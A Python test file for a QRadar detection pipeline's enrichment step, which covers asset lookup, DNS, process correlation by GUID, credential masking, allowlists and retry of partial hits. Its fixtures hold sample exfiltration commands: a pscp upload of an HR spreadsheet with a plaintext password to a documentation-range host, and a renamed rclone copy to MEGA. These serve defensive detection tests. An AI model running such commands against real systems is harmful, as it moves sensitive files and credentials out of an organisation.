"""The Enricher processor with a scripted console: what it fills in, how it correlates, what it caches,
and that a failed lookup keeps the hit (partial) until retry_partial completes it.
The end-to-end tests (tests/e2e/test_enrichment.py) run it against the real stand-in."""
import json
import re

import pytest

from app.detection.aql import Window
from app.detection.rule import load_rules
from app.pipeline.enrich import Enricher
from app.pipeline.hit import hits_from_rows
from app.pipeline.run import WindowContext
from app.qradar.errors import ConsoleUnavailableError
from app.store.enrichment import EnrichmentRepository

MINUTE = 60_000
FIELDS = {"event_id": "EventID", "process_image": "Process Name", "command_line": "CommandLine",
          "process_guid": "ProcessGuid", "parent_image": "ParentImage", "parent_command_line": "ParentCommandLine",
          "original_file_name": "OriginalFileName", "destination_hostname": "DestinationHostname"}
ASSET = {"id": 2001, "hostnames": [{"name": "ws-hr-004.corp.example-corp.com", "type": "DNS"}],
         "properties": [{"name": "Given Name", "value": "WS-HR-004"}, {"name": "Owner", "value": "Adaeze Okafor (HR)"},
                        {"name": "Business Criticality", "value": "High"}]}
PSCP = "pscp.exe -pw Summer2026! -P 22 C:\\HR\\employees.xlsx exfil@198.51.100.1:/home/exfil/drop/"
GUID = "{ED6FDCAC-64B1-A72A-9C4A-91111A827A2B}"


class Console:
    """The three console lookups enrichment makes; `failing` names the ones that answer 503."""

    def __init__(self):
        self.assets = {"10.20.1.232": [ASSET]}
        self.dns = {"31.216.148.11": "g.api.mega.co.nz"}
        self.sets = {}
        self.failing = set()
        self.calls = []

    def _call(self, what, *args):
        self.calls.append((what, *args))
        if what in self.failing:
            raise ConsoleUnavailableError("unexpected HTTP 503 answer", status=503)

    def find_assets_by_ip(self, ip):
        self._call("asset", ip)
        return self.assets.get(ip, [])

    def dns_lookup(self, ip, attempts=10, interval_s=1.0):
        self._call("dns", ip)
        return self.dns.get(ip, "")

    def dns_lookups(self, ips, attempts=10, interval_s=1.0, answers=None):
        self.calls.append(("dns-wait", len(ips)))         # one wait for all of them (QRadarClient.dns_lookups)
        answers = {} if answers is None else answers
        for ip in ips:
            answers[ip] = self.dns_lookup(ip, attempts, interval_s)
        return answers

    def get_reference_set(self, name):
        self._call("set", name)
        return None if name not in self.sets else {"name": name, "data": [{"value": v} for v in self.sets[name]]}

    def count(self, what):
        return sum(1 for c in self.calls if c[0] == what)


class Searches:
    """search_factory: every search answers with the process creations it was given."""

    def __init__(self, processes=()):
        self.processes = list(processes)
        self.aql = []

    def __call__(self):
        return self

    def rows(self, aql):
        self.aql.append(aql)
        return iter(self.processes)


@pytest.fixture
def rules():
    return load_rules()


@pytest.fixture
def console():
    return Console()


@pytest.fixture
def make(store, console, rules):
    def build(**kw):
        return Enricher(console, EnrichmentRepository(store.db), store.settings, lambda: 1_000_000, rule_for=rules.get, **kw)
    return build


def row(t, **kw):
    base = {"ew_time": t, "ew_sourceip": "10.20.1.232", "ew_destinationip": "10.20.1.232", "ew_destinationport": 0,
            "ew_username": "CORP\\aokafor", "ew_event_id": "1", "ew_process_image": "pscp.exe", "ew_command_line": PSCP,
            "ew_process_guid": GUID, "ew_original_file_name": "PSCP", "ew_parent_image": r"C:\Windows\System32\cmd.exe",
            "ew_payload": f"event {t}"}
    return {**base, **kw}


def context(searches=None, start=10 * MINUTE, end=20 * MINUTE):
    return WindowContext(Window(start, end), FIELDS, searches or Searches(), lambda: 1_000_000)


def test_process_creation_hit(make, rules, console):
    (hit,) = hits_from_rows("t1048-002-transfer-credentials", [row(11 * MINUTE)])
    make()(rules["t1048-002-transfer-credentials"], [hit], context())
    e = hit.enrichment
    assert "Summer2026!" not in json.dumps(e)
    assert e["attack"]["subtechnique"].startswith("T1048.002")
    assert e["tool"] == {"name": "pscp", "image": "pscp.exe", "renamed": False, "original_file_name": "PSCP"}
    assert e["protocol"] == "scp"
    assert e["credentials"] == [{"kind": "-pw", "masked": "-pw ********"}]
    assert e["command_line_masked"].startswith("pscp.exe -pw ******** -P 22")
    assert e["process"]["source"] == "event" and e["process"]["command_line"] == e["command_line_masked"]
    assert e["destination"] == {"ip": "198.51.100.1", "port": 22, "hostname": None, "public": True, "service": None,
                                "first_seen_ms": 11 * MINUTE, "first_time": True}
    assert e["asset"] == {"id": 2001, "hostname": "ws-hr-004.corp.example-corp.com", "owner": "Adaeze Okafor (HR)",
                          "criticality": "High"}
    assert "-pw on the command line" in e["indicators"] and "public destination 198.51.100.1:22 (scp)" in e["indicators"]
    assert (e["state"], e["errors"], e["allowlisted"]) == ("complete", [], [])
    assert hit.risk_score == e["risk"]["score"] == sum(r["points"] for r in e["risk"]["reasons"])
    assert console.calls.count(("dns", "198.51.100.1")) == 1   # a public IP without a name: asked, none known
    assert hit.command_line == PSCP           # the console's own value is left as it is


def test_network_event_gets_its_command_line_by_guid(make, rules, console):
    connection = row(15 * MINUTE, ew_event_id="3", ew_command_line=None, ew_original_file_name=None,
                     ew_parent_image=None, ew_destinationip="31.216.148.11", ew_destinationport=443,
                     ew_destination_hostname="-", ew_process_image="svchost-helper.exe")
    (hit,) = hits_from_rows("t1048-002-seed", [connection])
    creation = {"ew_guid": GUID, "ew_command_line": r"C:\x\svchost-helper.exe copy C:\Legal pc:backup --sftp-pass Zz9",
                "ew_parent_image": r"C:\Windows\System32\cmd.exe", "ew_original_file_name": "rclone.exe",
                "ew_process_image": "svchost-helper.exe", "ew_time": 14 * MINUTE}
    searches = Searches([creation])
    enricher = make()
    enricher(rules["t1048-002-seed"], [hit], context(searches))
    (aql,) = searches.aql
    assert "\"EventID\" = '1'" in aql and f"\"ProcessGuid\" IN ('{GUID}')" in aql
    assert f"starttime >= {10 * MINUTE - 60 * MINUTE} AND starttime < {20 * MINUTE}" in aql
    e = hit.enrichment
    assert e["process"]["source"] == "correlated" and "Zz9" not in json.dumps(e)
    assert e["process"]["command_line"].endswith("--sftp-pass ********")
    assert e["tool"]["renamed"] and e["tool"]["name"] == "rclone"
    assert "renamed binary: svchost-helper.exe is rclone.exe" in e["indicators"]
    assert e["destination"]["hostname"] == "g.api.mega.co.nz"        # "-" = unresolved: asked the console
    assert e["destination"]["service"] == {"name": "MEGA", "category": "cloud-storage"}
    assert e["protocol"] == "https"
    # the same GUID in a later window is answered from memory
    (again,) = hits_from_rows("t1048-002-seed", [{**connection, "ew_time": 16 * MINUTE}])
    enricher(rules["t1048-002-seed"], [again], context(searches))
    assert len(searches.aql) == 1 and again.enrichment["process"]["source"] == "correlated"


def test_correlation_batches_guids_and_skips_what_is_not_a_guid(make, rules):
    """A GUID holding a NUL, a quote or a megabyte is telemetry too: it is skipped and noted on its own hit,
    and the other GUIDs of its batch are still searched."""
    bad = ["{it's}", "{a\x00b}", "{" + "f" * 1_000_000 + "}", "{a b}"]
    guids = [f"{{G-{i:04d}}}" for i in range(450)] + bad
    hits = hits_from_rows("t1048-002-seed", [row(11 * MINUTE + i, ew_event_id="3", ew_command_line=None, ew_process_guid=g)
                                             for i, g in enumerate(guids)])
    searches = Searches()
    make()(rules["t1048-002-seed"], hits, context(searches))
    assert len(searches.aql) == 3
    assert sum(len(re.findall(r"'\{G-", a)) for a in searches.aql) == 450
    assert not any("it''s" in a or "\x00" in a or "ffffffff" in a for a in searches.aql)
    assert all(h.enrichment["state"] == "complete" and h.enrichment["process"]["source"] == "event" for h in hits)
    assert [h.process_guid in bad for h in hits] == ["not a GUID" in h.enrichment["process"].get("note", "")
                                                     for h in hits]


def test_a_failed_correlation_search_keeps_the_hit_partial(make, rules):
    class Failing(Searches):
        def rows(self, aql):
            raise ConsoleUnavailableError("unexpected HTTP 503 answer", status=503)

    (hit,) = hits_from_rows("t1048-002-seed", [row(11 * MINUTE, ew_event_id="3", ew_command_line=None)])
    make()(rules["t1048-002-seed"], [hit], context(Failing()))
    assert hit.enrichment["state"] == "partial"
    assert hit.enrichment["errors"][0].startswith("process correlation by ProcessGuid")


def test_one_asset_question_per_ip(make, rules, console):
    enricher = make()
    for t in (11, 12):
        hits = hits_from_rows("r", [row(t * MINUTE), row(t * MINUTE + 1, ew_sourceip="10.20.9.9")])
        enricher(rules["t1048-002-seed"], hits, context())
    assert sorted(c[1] for c in console.calls if c[0] == "asset") == ["10.20.1.232", "10.20.9.9"]
    assert hits[1].enrichment["asset"] is None          # the console knows no asset: known, not partial
    assert hits[1].enrichment["state"] == "complete"


def test_asset_ttl(make, rules, console, store):
    clock = [0]
    enricher = Enricher(console, EnrichmentRepository(store.db), store.settings, lambda: clock[0], asset_ttl_s=60)
    for clock[0] in (0, 59_000, 61_000):
        enricher(rules["t1048-002-seed"], hits_from_rows("r", [row(clock[0] + 1)]), context())
    assert console.count("asset") == 2


def test_dns_lookups_are_bounded_per_batch(make, rules, console):
    hits = hits_from_rows("r", [row(11 * MINUTE + i, ew_event_id="3", ew_command_line=None, ew_process_guid=None,
                                    ew_destinationip=f"203.0.113.{i}", ew_destinationport=443) for i in range(1, 6)])
    make(max_dns_lookups=2)(rules["t1048-002-seed"], hits, context())
    assert console.count("dns") == 2
    assert console.count("dns-wait") == 1
    assert all(h.enrichment["state"] == "complete" for h in hits)


def test_a_windows_unknown_addresses_are_looked_up_together(make, rules, console):
    """Forty connections to twenty public addresses: one DNS wait for the twenty, none for a repeat."""
    rows = [row(11 * MINUTE + i, ew_event_id="3", ew_command_line=None, ew_process_guid=None,
                ew_destinationip=f"203.0.113.{i % 20 + 1}", ew_destinationport=443) for i in range(40)]
    enricher = make()
    enricher(rules["t1048-002-seed"], hits_from_rows("r", rows), context())
    assert (console.count("dns"), console.count("dns-wait")) == (20, 1)
    enricher(rules["t1048-002-seed"], hits_from_rows("r", rows), context())
    assert (console.count("dns"), console.count("dns-wait")) == (20, 1)


def test_allowlists(make, rules, console, store):
    store.settings.set("enrichment.allowlist_sets", {"EW allowed hosts": "destination_hostname",
                                                     "EW service accounts": "username", "EW missing": "source_ip"},
                       actor="admin", now_ms=1)
    console.sets = {"EW allowed hosts": [".example-corp.com"], "EW service accounts": ["CORP\\SVC_build"]}
    hits = hits_from_rows("r", [
        row(11 * MINUTE, ew_command_line="curl.exe -T f https://artifacts.example-corp.com/x", ew_username="CORP\\svc_build",
            ew_process_image="curl.exe", ew_original_file_name=None),
        row(12 * MINUTE)])
    enricher = make()
    enricher(rules["t1048-002-web-upload"], hits, context())
    allowed, other = hits
    assert allowed.enrichment["allowlisted"] == [
        {"reference_set": "EW allowed hosts", "field": "destination_hostname", "value": "artifacts.example-corp.com"},
        {"reference_set": "EW service accounts", "field": "username", "value": "CORP\\svc_build"}]
    assert [r["points"] for r in allowed.enrichment["risk"]["reasons"] if r["reason"].startswith("allowlisted")] == [-30, -30]
    assert other.enrichment["allowlisted"] == [] and other.enrichment["state"] == "complete"   # a missing set is empty
    assert console.count("set") == 3                                  # read once per batch... and cached after
    enricher(rules["t1048-002-web-upload"], hits_from_rows("r", [row(13 * MINUTE)]), context())
    assert console.count("set") == 3


def test_failures_keep_the_hit_and_retry_completes_it(make, rules, console, store):
    console.failing = {"asset", "dns"}
    enricher = make()
    rows = [row(11 * MINUTE), row(11 * MINUTE + 5, ew_sourceip="10.20.9.9"),
            row(11 * MINUTE + 9, ew_event_id="3", ew_command_line=None, ew_destinationip="31.216.148.11",
                ew_destinationport=443)]
    hits = hits_from_rows("t1048-002-seed", rows)
    creation = {"ew_guid": GUID, "ew_command_line": PSCP, "ew_time": 11 * MINUTE}
    enricher(rules["t1048-002-seed"], hits, context(Searches([creation])))
    assert console.count("asset") == 1                 # after one failure the batch stops asking
    for hit in hits:
        assert hit.enrichment["state"] == "partial" and "asset" not in hit.enrichment
        assert hit.risk_score is not None and "Summer2026!" not in json.dumps(hit.enrichment)
    assert any("reverse DNS lookup of 31.216.148.11" in e for e in hits[2].enrichment["errors"])
    (window,) = store.ledger.plan("t1048-002-seed", "hunt", [(10 * MINUTE, 20 * MINUTE)], 1)
    store.ledger.complete(window.id, [h.as_row() for h in hits], rows=3, restarts=0, truncated=False, now_ms=2)

    assert enricher.retry_partial() == 0               # still failing: nothing completes, attempts counted
    console.failing = set()
    assert enricher.retry_partial() == 3
    stored = {h["event_time_ms"]: h for h in store.hits.list(suppressed=None)}
    for h in stored.values():
        assert h["enrichment_state"] == "complete" and h["enrichment"]["errors"] == []
        assert h["risk_score"] == h["enrichment"]["risk"]["score"]
    assert stored[11 * MINUTE]["enrichment"]["asset"]["owner"] == "Adaeze Okafor (HR)"
    connection = stored[11 * MINUTE + 9]["enrichment"]
    assert connection["destination"]["hostname"] == "g.api.mega.co.nz"
    assert connection["process"]["source"] == "correlated" and "-pw ********" in connection["process"]["command_line"]
    assert connection["credentials"] == [{"kind": "-pw", "masked": "-pw ********"}]
    assert enricher.retry_partial() == 0


def test_a_bug_in_enrichment_does_not_lose_the_window(make, rules, monkeypatch):
    import app.pipeline.enrich as enrich

    def broken(*args):
        raise RuntimeError("boom")

    monkeypatch.setattr(enrich, "tool_identity", broken)
    hits = hits_from_rows("r", [row(11 * MINUTE)])
    make()(rules["t1048-002-seed"], hits, context())
    assert hits[0].enrichment["state"] == "partial" and hits[0].enrichment["errors"] == ["enrichment failed: boom"]


def test_first_time_is_first_contact_of_the_source(make, rules):
    enricher = make()
    early, late = hits_from_rows("r", [row(11 * MINUTE), row(12 * MINUTE)])
    enricher(rules["t1048-002-seed"], [late, early], context())
    assert early.enrichment["destination"]["first_time"] and not late.enrichment["destination"]["first_time"]
    # the same window enriched again (its commit failed and it was searched again) gives the same answers
    again_early, again_late = hits_from_rows("r", [row(11 * MINUTE), row(12 * MINUTE)])
    enricher(rules["t1048-002-seed"], [again_early, again_late], context())
    assert again_early.enrichment["destination"] == early.enrichment["destination"]
    assert again_late.enrichment["destination"]["first_time"] is False


def test_retry_runs_the_following_processors_again_and_keeps_their_keys(store, console, rules):
    """An exception on the asset can match only once the asset is known: retry runs the exceptions again."""
    def exceptions(rule, hits, context):
        for hit in hits:
            if (hit.enrichment.get("asset") or {}).get("owner", "").startswith("Adaeze"):
                hit.suppressed, hit.exception_id = True, 7
                hit.enrichment["suppressed_by"] = {"id": 7, "name": "HR uploads", "reason": "tuned"}

    enricher = Enricher(console, EnrichmentRepository(store.db), store.settings, lambda: 1_000_000,
                        rule_for=rules.get, after_retry=[exceptions])
    console.failing = {"asset"}
    hits = hits_from_rows("t1048-002-seed", [row(11 * MINUTE)])
    enricher(rules["t1048-002-seed"], hits, context())
    exceptions(rules["t1048-002-seed"], hits, context())
    hits[0].enrichment["note"] = "added by a later processor"
    (window,) = store.ledger.plan("t1048-002-seed", "hunt", [(10 * MINUTE, 20 * MINUTE)], 1)
    store.ledger.complete(window.id, [h.as_row() for h in hits], rows=1, restarts=0, truncated=False, now_ms=2)
    assert store.hits.list(suppressed=None)[0]["suppressed"] == 0
    console.failing = set()
    assert enricher.retry_partial() == 1
    (stored,) = store.hits.list(suppressed=None)
    assert (stored["suppressed"], stored["exception_id"]) == (1, 7)
    assert stored["enrichment"]["suppressed_by"]["id"] == 7
    assert stored["enrichment"]["note"] == "added by a later processor"


def test_a_name_is_kept_a_day_and_no_name_an_hour(store, console, rules):
    clock = [0]
    enricher = Enricher(console, EnrichmentRepository(store.db), store.settings, lambda: clock[0])
    connections = [row(1, ew_event_id="3", ew_command_line=None, ew_process_guid=None, ew_destinationip=ip,
                       ew_destinationport=443) for ip in ("31.216.148.11", "203.0.113.9")]
    for clock[0] in (0, 3_000_000, 3_700_000):
        enricher(rules["t1048-002-seed"], hits_from_rows("r", connections), context())
    assert console.calls.count(("dns", "31.216.148.11")) == 1
    assert console.calls.count(("dns", "203.0.113.9")) == 2
